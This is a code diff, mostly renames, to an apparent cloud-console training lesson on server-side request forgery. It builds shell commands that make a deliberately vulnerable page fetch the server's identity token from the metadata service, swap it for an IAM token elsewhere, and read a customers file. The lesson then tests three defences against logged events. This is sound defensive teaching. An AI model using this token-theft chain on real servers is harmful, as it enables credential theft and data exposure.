@@ -5,69 +5,69 @@ from typing import Any
 
 from controlplane.activity.events import COMPUTE_RESOURCE_LOGIN
 from controlplane.activity.models import ActivityEvent
-from controlplane.console.lessons.command_parts import A_PORT, MAY_SWITCH, QUERY, address, example, switched
-from controlplane.console.lessons.lesson import Check, Command, Drawn, Evidence, Lesson, Place, Seen
-from controlplane.console.lessons.shell_commands import CREATE_PROFILE, member
+from controlplane.console.lessons.command_parts import CHOOSE_PORT, MAY_SWITCH, QUERY, address, example_path, switch_on
+from controlplane.console.lessons.lesson import Check, Command, Evidence, Finding, Lesson, LessonMessage, LessonRun
+from controlplane.console.lessons.shell_commands import CREATE_PROFILE, read_member
 from controlplane.objectstore.events import OBJECT_READ
 from identity.events import IDENTITY_TOKEN_CREATE as IDENTITY_TOKEN
 
 PAGE = "link-preview"
-"""How examples/ssrf/vulnerable.py calls itself in its requests, before whose it is."""
-READ_TOKEN = member("access_token")
+"""The beginning of the User-Agent of examples/ssrf/vulnerable.py, before the learner's mark."""
+READ_TOKEN = read_member("access_token")
 
 
-def _stolen(evidence: Evidence) -> Seen | None:
-    event = evidence.first(IDENTITY_TOKEN, on=evidence.place.server.crn, where=_by_the_page)
-    return Seen(f"The page asked, so {event.initiator_name} asked: it got a token.", event) if event else None
+def _stolen(evidence: Evidence) -> Finding | None:
+    event = evidence.first(IDENTITY_TOKEN, on=evidence.run.server.crn, where=_by_the_page)
+    return Finding(f"The page asked, so {event.initiator_name} asked: it got a token.", event) if event else None
 
 
-def _exchanged(evidence: Evidence) -> Seen | None:
+def _exchanged(evidence: Evidence) -> Finding | None:
     event = evidence.first(
         COMPUTE_RESOURCE_LOGIN,
         after="stolen",
-        where=lambda each: evidence.place.server.crn in (each.initiator_id, each.target_id),
+        where=lambda each: evidence.run.server.crn in (each.initiator_id, each.target_id),
     )
     return (
-        Seen("It was exchanged for an IAM token, from elsewhere: nobody asks where it came from.", event)
+        Finding("It was exchanged for an IAM token, from elsewhere: IAM does not check where it came from.", event)
         if event
         else None
     )
 
 
-def _read(evidence: Evidence) -> Seen | None:
+def _read(evidence: Evidence) -> Finding | None:
     event = evidence.first(OBJECT_READ, after="exchanged", where=_customers(evidence))
-    return Seen(f"{event.data['object']} was read from {event.target_name}.", event) if event else None
+    return Finding(f"{event.data['object']} was read from {event.target_name}.", event) if event else None
 
 
-def _get(evidence: Evidence) -> Seen | None:
+def _get(evidence: Evidence) -> Finding | None:
     event = _page_refused(evidence, 405, after="read")
-    return Seen("The page sent a GET, and got 405.", event) if event else None
+    return Finding("The page sent a GET, and got 405.", event) if event else None
 
 
-def _no_header(evidence: Evidence) -> Seen | None:
+def _no_header(evidence: Evidence) -> Finding | None:
     event = _page_refused(evidence, 400, after="get")
-    return Seen(f"It sent a PUT without the header, and got 400: {event.message}", event) if event else None
+    return Finding(f"It sent a PUT without the header, and got 400: {event.message}", event) if event else None
 
 
-def _plain(evidence: Evidence) -> Seen | None:
+def _plain(evidence: Evidence) -> Finding | None:
     event = _page_refused(evidence, 403, after="header")
-    return Seen(f"With the service at https, it got 403: {event.message}", event) if event else None
+    return Finding(f"With the service at https, it got 403: {event.message}", event) if event else None
 
 
-def _past(evidence: Evidence) -> Seen | None:
-    event = evidence.first(IDENTITY_TOKEN, on=evidence.place.server.crn, after="https", where=_by_the_page)
-    return Seen("A page that trusts the service's authority got a token over https.", event) if event else None
+def _past(evidence: Evidence) -> Finding | None:
+    event = evidence.first(IDENTITY_TOKEN, on=evidence.run.server.crn, after="https", where=_by_the_page)
+    return Finding("A page that trusts the service's authority got a token over https.", event) if event else None
 
 
-def _limited(evidence: Evidence) -> Seen | None:
+def _limited(evidence: Evidence) -> Finding | None:
     event = evidence.first(OBJECT_READ, success=False, after="past", where=_customers(evidence))
-    return Seen(f"The same stolen token was refused at {event.target_name}.", event) if event else None
+    return Finding(f"The same stolen token was refused at {event.target_name}.", event) if event else None
 
 
 def _page_refused(evidence: Evidence, status: int, *, after: str) -> Any:
     return evidence.first(
         IDENTITY_TOKEN,
-        on=evidence.place.server.crn,
+        on=evidence.run.server.crn,
         success=False,
         after=after,
         where=lambda each: each.reason_code == status and _by_the_page(each),
@@ -79,31 +79,32 @@ def _by_the_page(event: ActivityEvent) -> bool:
 
 
 def _customers(evidence: Evidence) -> Any:
-    return lambda event: event.target_name == f"{evidence.place.name}-customers"
+    return lambda event: event.target_name == f"{evidence.run.name}-customers"
 
 
 def _start_page(trusting: str = "") -> str:
-    """In the background; it trusts the certificates of a file, or else those that the machine trusts."""
+    """A command that starts the page in the background. It trusts the certificates of a file, or else the machine's."""
     trust = f"SSL_CERT_FILE={shlex.quote(trusting)} " if trusting else ""
-    return f"{trust}timeout 30m \\\n  python3 {example('ssrf/vulnerable.py')} $PORT > /dev/null 2>&1 &\nPAGE=$!"
+    return f"{trust}timeout 30m \\\n  python3 {example_path('ssrf/vulnerable.py')} $PORT > /dev/null 2>&1 &\nPAGE=$!"
 
 
-def _commands(place: Place) -> list[Command]:
-    name, shop = place.server.name, place.name
-    store = f"{place.control_plane}/cos/{shop}"
+def _commands(run: LessonRun) -> list[Command]:
+    name, shop = run.server.name, run.name
+    store = f"{run.control_plane}/cos/{shop}"
     steal = f"webhook PUT \\\n  \"$URL/identity/v1/token?{QUERY}\" 'Metadata-Flavor: ibm'"
-    use = f'{place.curl} {store}-customers/customers.csv \\\n  -H "Authorization: Bearer $IAM"; echo'
+    use = f'{run.curl} {store}-customers/customers.csv \\\n  -H "Authorization: Bearer $IAM"; echo'
     return [
         Command(
             "Something to steal",
-            f"{switched(name, protocol='http')}\npython3 {example('ssrf/shop.py')} wide {shlex.quote(name)} {shop}",
+            f"{switch_on(name, protocol='http')}\n"
+            f"python3 {example_path('ssrf/shop.py')} wide {shlex.quote(name)} {shop}",
             f"A shop: two buckets, and a trusted profile {shop} for its web server. The server needs the pages. "
             "It was given everything, as it was less work.",
             needs=CREATE_PROFILE,
         ),
         Command(
             "A page with a hole",
-            f"{A_PORT}\nURL={address(name)}\n"
+            f"{CHOOSE_PORT}\nURL={address(name)}\n"
             f"{_start_page()}\n"
             "webhook() {\n"
             '  curl -sG --retry 5 --retry-connrefused "http://127.0.0.1:$PORT/webhook" \\\n'
@@ -120,7 +121,7 @@ def _commands(place: Place) -> list[Command]:
         ),
         Command(
             "Use it from elsewhere",
-            f"IAM=$({place.curl} {place.control_plane}/identity/token \\\n"
+            f"IAM=$({run.curl} {run.control_plane}/identity/token \\\n"
             "  -d grant_type=urn:ibm:params:oauth:grant-type:cr-token \\\n"
             f'  -d cr_token="$STOLEN" -d profile_name={shop} \\\n  | {READ_TOKEN})\n{use}',
             "This part runs on your own machine. A token says who; it does not say from where. So the thief reads what "
@@ -137,7 +138,7 @@ def _commands(place: Place) -> list[Command]:
         ),
         Command(
             "Defence 2: https",
-            f"{switched(name, protocol='https')}\n{steal}; echo\n"
+            f"{switch_on(name, protocol='https')}\n{steal}; echo\n"
             f"SECURE={address(name)}\n{steal.replace('$URL', '$SECURE')}; echo",
             "Over http: 403. Over https the page does not believe the certificate, for it trusts the usual "
             "authorities; that leaves no trace at the service. It also stops holes that write raw bytes to a port: "
@@ -146,18 +147,18 @@ def _commands(place: Place) -> list[Command]:
         ),
         Command(
             "What defence 2 does not stop",
-            f"kill $PAGE; wait $PAGE\n{_start_page(place.ca_bundle)}\n"
-            f"{steal.replace('$URL', '$SECURE')} | cut -c 1-60\n{switched(name, protocol='http')}",
-            "The same page, on a server whose programs trust the service's authority, as they do where somebody took "
-            "care of it. One that checks no certificate at all would do. The theft works as before. https keeps out "
+            f"kill $PAGE; wait $PAGE\n{_start_page(run.ca_bundle)}\n"
+            f"{steal.replace('$URL', '$SECURE')} | cut -c 1-60\n{switch_on(name, protocol='http')}",
+            "The same page, on a server whose programs trust the service's authority, as they do where it was set "
+            "up. A page that checks no certificate at all would work too. The theft works as before. https keeps out "
             "those on the path, not those on the server.",
             needs=MAY_SWITCH,
         ),
         Command(
             "Defence 3: a smaller profile",
-            f"python3 {example('ssrf/shop.py')} small {shlex.quote(name)} {shop}\n{use}\n"
-            f'{place.curl} {store}-pages/index.html \\\n  -H "Authorization: Bearer $IAM"\nkill $PAGE',
-            "The thief still has the token, and it still works: for the pages, which everybody may see. This defence "
+            f"python3 {example_path('ssrf/shop.py')} small {shlex.quote(name)} {shop}\n{use}\n"
+            f'{run.curl} {store}-pages/index.html \\\n  -H "Authorization: Bearer $IAM"\nkill $PAGE',
+            "The thief still has the token, and it still works: for the pages, which are public anyway. This defence "
             "stops no theft. It is the only one that holds whatever the hole is, and it counts for tokens that are "
             "already stolen, as soon as a service asks what they may do.",
             needs=CREATE_PROFILE,
@@ -170,29 +171,29 @@ LESSON = Lesson(
     title="Attack and defence: a page that calls for others",
     goal="Steal a server's identity through a hole in its web page, and see what each of three defences is worth.",
     why=(
-        "The metadata service knows a caller by where the call comes from. So whoever gets a program on the server to "
-        "make a call for them is taken for the server. This is server-side request forgery, SSRF. It is an old hole "
-        "and a common one: every function that fetches an address which a visitor names may be one.",
-        "The true mend is in the page: fetch from places that you listed, and from no others. But the platform has to "
-        "reckon with pages that were not mended. Its defences make the hole worth less.",
+        "The metadata service knows a caller by where the call comes from. So an attacker who gets a program on the "
+        "server to make a call for them is taken for the server. This is server-side request forgery, SSRF. It is an "
+        "old hole and a common one: every function that fetches an address which a visitor names may be one.",
+        "The real fix is in the page: fetch from an allowlist of addresses only. But the platform has to reckon with "
+        "pages that were not fixed. Its defences make the hole worth less.",
         "Ask of each defence what a visitor would have to control to get past it. The address alone? The method and "
         "the headers? Raw bytes? What the page trusts? A program of their own on the server gets past the first two "
         "always: for that there are only small rights, short lives, and the switch that makes every identity token "
         "of the server worthless at once.",
     ),
     parties=("Visitor", "Page on {server}", "Metadata service", "IAM, object store"),
-    drawn=(
-        Drawn(0, 1, "call this for me", "stolen"),
-        Drawn(1, 2, "PUT token, with header", "stolen"),
-        Drawn(2, 1, "identity token", "stolen"),
-        Drawn(1, 0, "identity token", "stolen"),
-        Drawn(0, 3, "exchange it for an IAM token", "exchanged"),
-        Drawn(3, 0, "the customers", "read"),
-        Drawn(1, 2, "GET token", "get", "refused"),
-        Drawn(1, 2, "PUT token, no header", "header", "refused"),
-        Drawn(1, 2, "PUT over http", "https", "refused"),
-        Drawn(1, 2, "PUT over https, trusted", "past"),
-        Drawn(3, 0, "no customers for you", "limited", "refused"),
+    messages=(
+        LessonMessage(0, 1, "call this for me", "stolen"),
+        LessonMessage(1, 2, "PUT token, with header", "stolen"),
+        LessonMessage(2, 1, "identity token", "stolen"),
+        LessonMessage(1, 0, "identity token", "stolen"),
+        LessonMessage(0, 3, "exchange it for an IAM token", "exchanged"),
+        LessonMessage(3, 0, "the customers", "read"),
+        LessonMessage(1, 2, "GET token", "get", "refused"),
+        LessonMessage(1, 2, "PUT token, no header", "header", "refused"),
+        LessonMessage(1, 2, "PUT over http", "https", "refused"),
+        LessonMessage(1, 2, "PUT over https, trusted", "past"),
+        LessonMessage(3, 0, "no customers for you", "limited", "refused"),
     ),
     commands=_commands,
     checks=(
